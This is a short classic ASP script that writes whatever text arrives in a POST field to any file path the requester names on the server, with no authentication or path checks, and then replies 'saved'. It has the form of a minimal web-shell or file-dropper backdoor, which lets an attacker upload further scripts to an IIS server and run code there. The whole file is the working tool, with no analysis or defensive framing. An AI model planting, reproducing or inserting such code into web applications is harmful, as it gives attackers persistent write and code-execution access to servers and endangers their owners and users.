<%
Dim stm
Set stm = Server.CreateObject("ADODB.Stream")
stm.Type = 2
stm.Charset = "utf-8"
stm.Open
stm.WriteText Request.Form("body")
stm.SaveToFile Server.MapPath(Request.Form("name")), 2
stm.Close
Response.Write "saved"
%>
